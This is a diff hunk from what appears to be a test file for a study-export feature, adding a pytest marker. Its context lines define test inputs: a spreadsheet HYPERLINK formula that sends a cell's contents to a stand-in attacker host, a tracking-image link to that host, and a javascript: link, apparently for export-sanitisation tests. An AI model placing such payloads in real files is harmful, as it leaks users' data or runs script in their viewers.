@@ -23,6 +23,8 @@ from coding.service.export import export_study
 from coding.store import Store
 from tests.conftest import write_codings
 
+pytestmark = pytest.mark.both_engines
+
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 IMAGE = "![x](http://evil.example/track.png)"
 LINK = "[help](javascript:alert(1))"
